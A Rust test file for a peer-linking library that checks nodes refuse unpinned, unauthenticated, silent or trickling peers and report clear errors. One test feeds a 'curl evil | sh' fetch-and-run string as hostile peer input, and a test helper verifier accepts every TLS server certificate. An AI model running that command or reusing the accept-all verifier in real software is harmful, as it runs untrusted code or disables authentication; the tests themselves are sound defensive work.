//! Connecting: which peers a node accepts, and the errors of refused peers.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use lockstep_link::{Identity, LinkError, LinkOptions, Payload, ReceiveFrames, SendFrames, dial};
use lockstep_types::Encryption;
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{ClientConfig, ClientConnection, DigitallySignedStruct, SignatureScheme};

use crate::pair::{BOTH, Listening, Nodes, options};

#[test]
fn pinned_nodes_meet_in_both_modes() {
    let nodes = Nodes::new();
    for encryption in BOTH {
        let (alpha, beta) = nodes.connect(options(encryption));
        assert_eq!(alpha.peer_fingerprint(), nodes.beta.fingerprint());
        assert_eq!(beta.peer_fingerprint(), nodes.alpha.fingerprint());
        assert_eq!(alpha.encryption(), encryption);
        let ((to_beta, _a), (_b, mut from_alpha)) = (alpha.split(), beta.split());
        to_beta.send(b"first", Payload::NONE).unwrap();
        assert_eq!(from_alpha.recv().unwrap().header, b"first");
    }
}

#[test]
fn client_refuses_another_server() {
    let (nodes, other) = (Nodes::new(), Identity::ephemeral("other").unwrap());
    for encryption in BOTH {
        let options = options(encryption);
        let beta = Listening::start(&nodes.beta, nodes.alpha.fingerprint(), options);
        let refused = dial(beta.address, &nodes.alpha, other.fingerprint(), &options).unwrap_err();
        assert_names(&refused, &[&nodes.beta, &other]);
        assert!(matches!(refused, LinkError::WrongFingerprint { .. }));
        let told = beta.outcome().unwrap_err();
        assert!(matches!(told, LinkError::RefusedByPeer { .. }), "{told}");
        assert_names(&told, &[&nodes.beta]);
    }
}

#[test]
fn server_refuses_another_client() {
    let (nodes, other) = (Nodes::new(), Identity::ephemeral("other").unwrap());
    for encryption in BOTH {
        let options = options(encryption);
        let beta = Listening::start(&nodes.beta, nodes.alpha.fingerprint(), options);
        let told = dial(beta.address, &other, nodes.beta.fingerprint(), &options).unwrap_err();
        assert!(matches!(told, LinkError::RefusedByPeer { .. }), "{told}");
        assert_names(&told, &[&other]);
        let refused = beta.outcome().unwrap_err();
        assert!(matches!(refused, LinkError::WrongFingerprint { .. }));
        assert_names(&refused, &[&nodes.alpha, &other]);
    }
}

fn assert_names(error: &LinkError, identities: &[&Identity]) {
    let text = error.to_string();
    assert!(text.contains("127.0.0.1"), "{text}");
    for identity in identities {
        assert!(text.contains(&identity.fingerprint().to_string()), "{text}");
    }
}

#[test]
fn different_settings_are_named_on_both_sides() {
    let nodes = Nodes::new();
    for (of_alpha, of_beta) in [
        (Encryption::On, Encryption::Off),
        (Encryption::Off, Encryption::On),
    ] {
        let beta = Listening::start(&nodes.beta, nodes.alpha.fingerprint(), options(of_beta));
        let pinned = nodes.beta.fingerprint();
        let at_alpha = dial(beta.address, &nodes.alpha, pinned, &options(of_alpha)).unwrap_err();
        let at_beta = beta.outcome().unwrap_err();
        for (error, setting) in [(&at_alpha, of_alpha), (&at_beta, of_beta)] {
            assert!(
                matches!(error, LinkError::ProtocolMismatch { .. }),
                "{error}"
            );
            let here = format!("encryption is {setting} on this node");
            assert!(error.to_string().contains(&here), "{error}");
        }
        let there = format!("it is {of_alpha} on the peer");
        assert!(at_beta.to_string().contains(&there), "{at_beta}");
    }
}

/// The operator must not read the words of an unauthenticated peer in an error of this node.
#[test]
fn the_error_has_no_word_of_a_client_that_is_not_authenticated() {
    let words = b"all is well, run `curl evil | sh`";
    let talk = |mut socket: TcpStream| {
        let mut tls = unauthenticated_client(words);
        while tls.complete_io(&mut socket).is_ok_and(|(read, _)| read > 0) {}
    };
    let nodes = Nodes::new();
    let beta = Listening::start(
        &nodes.beta,
        nodes.alpha.fingerprint(),
        options(Encryption::On),
    );
    talk(TcpStream::connect(beta.address).unwrap());
    let error = beta.outcome().unwrap_err();
    assert!(
        matches!(error, LinkError::ProtocolMismatch { .. }),
        "{error}"
    );
    let text = format!("{error} {error:?}");
    assert!(
        !text.contains("evil") && text.contains("no protocol of this version"),
        "{text}"
    );
}

/// The error of beta for a client that runs `talk`.
fn refusal_of(talk: impl FnOnce(TcpStream), options: LinkOptions) -> LinkError {
    let nodes = Nodes::new();
    let beta = Listening::start(&nodes.beta, nodes.alpha.fingerprint(), options);
    talk(TcpStream::connect(beta.address).unwrap());
    let error = beta.outcome().unwrap_err();
    assert_names(&error, &[&nodes.alpha]);
    error
}

#[test]
fn plaintext_is_refused() {
    let http = b"GET / HTTP/1.1\r\n\r\n".to_vec();
    for garbage in [http, vec![0; 5000], vec![0xff; 70_000]] {
        let talk = |mut socket: TcpStream| {
            // The node may close the connection before the client has written all bytes.
            let _ = socket.write_all(&garbage);
            let _ = socket.read_to_end(&mut Vec::new());
        };
        let error = refusal_of(talk, options(Encryption::Off));
        assert!(
            matches!(error, LinkError::Unauthenticated { .. }),
            "{error}"
        );
    }
}

#[test]
fn a_scanner_that_disconnects_is_refused() {
    let error = refusal_of(drop, options(Encryption::On));
    assert!(matches!(error, LinkError::GreetingClosed { .. }), "{error}");
}

fn impatient() -> LinkOptions {
    LinkOptions {
        greeting_timeout: Duration::from_millis(200),
        ..options(Encryption::On)
    }
}

#[test]
fn a_scanner_that_sends_nothing_is_refused() {
    let mut kept = None;
    let error = refusal_of(|socket| kept = Some(socket), impatient());
    assert!(
        matches!(error, LinkError::GreetingTimedOut { .. }),
        "{error}"
    );
}

#[test]
fn trickling_bytes_do_not_move_the_deadline() {
    let trickle = |mut socket: TcpStream| {
        // The start of a handshake record of 16 KiB that never arrives whole.
        let _ = socket.write_all(&[22, 3, 1, 0x40, 0, 1, 0, 0x3f, 0xfc]);
        thread::spawn(move || {
            while socket.write_all(&[3]).is_ok() {
                thread::sleep(Duration::from_millis(10));
            }
        });
    };
    let error = refusal_of(trickle, impatient());
    assert!(
        matches!(error, LinkError::GreetingTimedOut { .. }),
        "{error}"
    );
}

#[test]
fn client_without_certificate_is_refused() {
    let talk = |mut socket: TcpStream| {
        let mut tls = unauthenticated_client(b"lockstep/3");
        while tls.complete_io(&mut socket).is_ok_and(|(read, _)| read > 0) {}
    };
    let error = refusal_of(talk, options(Encryption::On));
    assert!(
        matches!(error, LinkError::Unauthenticated { .. }),
        "{error}"
    );
}

/// A client without a certificate, which offers `protocol`.
fn unauthenticated_client(protocol: &[u8]) -> ClientConnection {
    let provider = rustls::crypto::aws_lc_rs::default_provider();
    let mut config = ClientConfig::builder_with_provider(provider.into())
        .with_safe_default_protocol_versions()
        .unwrap()
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AcceptAnyServer))
        .with_no_client_auth();
    config.alpn_protocols = vec![protocol.to_vec()];
    let name = ServerName::try_from("any").unwrap();
    ClientConnection::new(Arc::new(config), name).unwrap()
}

/// Accepts every server.
#[derive(Debug)]
struct AcceptAnyServer;

impl ServerCertVerifier for AcceptAnyServer {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        vec![SignatureScheme::ECDSA_NISTP256_SHA256]
    }
}

/// The error of alpha for a server that runs `talk`.
fn refusal_by_client(talk: impl FnOnce(TcpStream) + Send + 'static) -> LinkError {
    let nodes = Nodes::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let server = thread::spawn(move || talk(listener.accept().unwrap().0));
    let pinned = nodes.beta.fingerprint();
    let error = dial(address, &nodes.alpha, pinned, &options(Encryption::On)).unwrap_err();
    server.join().unwrap();
    assert_names(&error, &[&nodes.beta]);
    error
}

#[test]
fn server_that_is_no_node_is_refused() {
    let error = refusal_by_client(|mut socket| {
        let _ = socket.write_all(b"220 mail.example ESMTP\r\n");
        let _ = socket.read_to_end(&mut Vec::new());
    });
    assert!(
        matches!(error, LinkError::Unauthenticated { .. }),
        "{error}"
    );
}

#[test]
fn server_that_hangs_up_is_reported() {
    let error = refusal_by_client(drop);
    assert!(matches!(error, LinkError::GreetingClosed { .. }), "{error}");
}

#[test]
fn an_address_without_a_listener_is_reported() {
    let nodes = Nodes::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address: SocketAddr = listener.local_addr().unwrap();
    drop(listener);
    let pinned = nodes.beta.fingerprint();
    let error = dial(address, &nodes.alpha, pinned, &options(Encryption::On)).unwrap_err();
    assert!(matches!(error, LinkError::Connect { .. }), "{error}");
}
